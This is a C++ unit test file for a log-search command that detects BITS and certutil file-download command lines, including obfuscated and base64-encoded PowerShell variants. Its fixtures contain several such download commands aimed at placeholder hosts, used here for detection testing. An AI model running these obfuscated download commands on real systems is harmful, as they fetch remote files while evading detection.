// What decoding changes for wildcards of the search's own, and for pattern files: they match the
// line as it is written and as it reads when nothing hides it, and nothing else decides.

#include <gtest/gtest.h>

#include "e2e/app.h"
#include "support/expect.h"

namespace e2e {
namespace {

using search_head::Texts;

// Of each kind one; the encoded text is: Start-BitsTransfer http://h.test/a b
Table kinds() {
  return {
      {"host", "process"},
      {{"plain", "powershell Start-BitsTransfer http://a.example/x C:\\x"},
       {"hidden", "powershell -c \"&('Start-Bits'+'Transfer') http://a.example/x C:\\x\""},
       {"encoded",
        "powershell -e UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIABoAHQAdABwADoALwAvAGgAL"
        "gB0AGUAcwB0AC8AYQAgAGIA"},
       {"mention", "notepad.exe C:\\docs\\start-bitstransfer.md"},
       {"other", "powershell -c \"&('certu'+'til') -urlcache -f http://a.example/x x\""},
       {"none", "ping.exe 192.0.2.1"}}};
}

Texts hosts(const std::string& arguments) {
  return bitsmatch_in_full(arguments, kinds()).table.texts("host");
}

TEST(OwnWildcards, MatchWhatIsHidden) {
  EXPECT_EQ(hosts("*start-bitstransfer*"), (Texts{"plain", "hidden", "encoded", "mention"}));
  EXPECT_EQ(hosts("*start-bitstransfer* decode=false"), (Texts{"plain", "mention"}));
  EXPECT_EQ(hosts("*http://h.test/a*"), (Texts{"encoded"}));
  EXPECT_EQ(hosts("*certutil*"), (Texts{"other"})) << "not only what is of BITS";
  EXPECT_EQ(hosts("*certutil* decode=false"), Texts{});
}

TEST(OwnWildcards, MatchWhatIsWrittenAsWell) {
  EXPECT_EQ(hosts("*'Start-Bits'+*"), (Texts{"hidden"}));
  EXPECT_EQ(hosts("*UwB0AGEAcgB0*"), (Texts{"encoded"}));
}

TEST(OwnWildcards, DecideAlone) {
  EXPECT_EQ(hosts("*ping*"), (Texts{"none"}));
  EXPECT_EQ(hosts("*nothing-like-it*"), Texts{});
  EXPECT_EQ(hosts("*"), kinds().texts("host"));
}

TEST(OwnWildcards, AreNamedAsTheyWereGiven) {
  const Table found = bitsmatch_in_full("*certutil* *BITSTRANSFER* *ping*", kinds()).table;
  EXPECT_EQ(found.texts("bits_pattern"),
            (Texts{"*BITSTRANSFER*", "*BITSTRANSFER*", "*BITSTRANSFER*", "*BITSTRANSFER*",
                   "*certutil*", "*ping*"}));
}

TEST(OwnWildcards, GetTheFactsOfTransfersOnly) {
  const Table found = bitsmatch_in_full("*", kinds()).table;
  EXPECT_EQ(found.texts("bits_command"),
            (Texts{"Start-BitsTransfer", "Start-BitsTransfer", "Start-BitsTransfer", "", "", ""}));
  const Texts scores = found.texts("bits_risk_score");
  for (std::size_t i = 0; i < scores.size(); ++i) EXPECT_EQ(scores[i].empty(), i > 2) << i;
}

TEST(BuiltInSet, MatchesTransfersAndNoMentions) {
  EXPECT_EQ(hosts(""), (Texts{"plain", "hidden", "encoded"}));
  EXPECT_EQ(hosts("decode=false"), (Texts{"plain"}));
  EXPECT_EQ(hosts("facts=false"), (Texts{"plain", "hidden", "encoded"}));
  EXPECT_EQ(hosts("decode=false facts=false"), (Texts{"plain", "mention"}));
}

TEST(PatternFile, MatchesWhatIsHiddenAndBringsItsColumns) {
  AppCopy app;
  app.add_lookup("tools.csv",
                 "pattern,tool\n*start-bitstransfer*,BITS\n*certutil*urlcache*,Certutil\n");
  auto search = [&](const std::string& more) {
    return bitsmatch_in_full("patterns=tools.csv outputcolumns=tool" + more, kinds(), {},
                             app.program())
        .table;
  };
  const Table found = search("");
  EXPECT_EQ(found.texts("host"), (Texts{"plain", "hidden", "encoded", "mention", "other"}));
  EXPECT_EQ(found.texts("pattern_tool"), (Texts{"BITS", "BITS", "BITS", "BITS", "Certutil"}));
  EXPECT_EQ(search(" decode=false").texts("host"), (Texts{"plain", "mention"}));
}

// The field need not be a command line of its own for the wildcards to be looked for.
TEST(OwnWildcards, LookIntoAnyField) {
  const Table rows = {{"script", "process"},
                      {{"powershell &('Start-Bits'+'Transfer') http://a.example/x y", "ping"},
                       {"ping", "powershell Start-BitsTransfer http://a.example/x y"}}};
  EXPECT_EQ(bitsmatch_in_full("field=script", rows).table.texts("process"), (Texts{"ping"}));
  EXPECT_EQ(bitsmatch_in_full("", rows).table.texts("script"), (Texts{"ping"}));
}

}  // namespace
}  // namespace e2e
